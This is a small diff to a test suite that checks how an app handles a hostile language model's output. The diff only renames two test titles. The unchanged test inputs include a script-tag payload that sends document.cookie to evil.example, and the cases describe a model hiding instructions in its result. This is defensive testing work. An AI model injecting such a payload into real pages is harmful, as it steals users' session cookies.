@@ -172,7 +172,7 @@ describe('a hostile model', () => {
     expect(stored.every((m) => !m.content.includes(prompt.slice(0, PROMPT_ECHO_CHARS)))).toBe(true)
   })
 
-  it('that hides its instructions in the result gets the repair; a repair that does it too ends in SPEC’s error', async () => {
+  it('that hides its instructions in the result gets the repair; a repair that does it too ends in the send-failed message', async () => {
     const { client } = await member()
     const id = await startRecap(client)
     const prompt = await masterPrompt(id)
@@ -188,7 +188,7 @@ describe('a hostile model', () => {
     ['JSON of the wrong shape', JSON.stringify({ ...FAKE_RESULTS.recap, rating: 11, top_priority_dimension: 'wealth' })],
     ['oversized JSON', JSON.stringify({ ...FAKE_RESULTS.recap, weekly_summary: 'x'.repeat(20_000) })],
     ['markup instead of JSON', '<script>fetch("https://evil.example/?c="+document.cookie)</script>'],
-  ])('that ends early with %s gets the one repair, then SPEC’s error, and nothing is saved', async (_, tail) => {
+  ])('that ends early with %s gets the one repair, then the send-failed message, and nothing is saved', async (_, tail) => {
     const { client } = await member()
     const id = await startRecap(client)
     fake.enqueue({ text: `Let me stop here.${END_OF_CONVERSATION_TOKEN}${tail}` }, { text: tail })
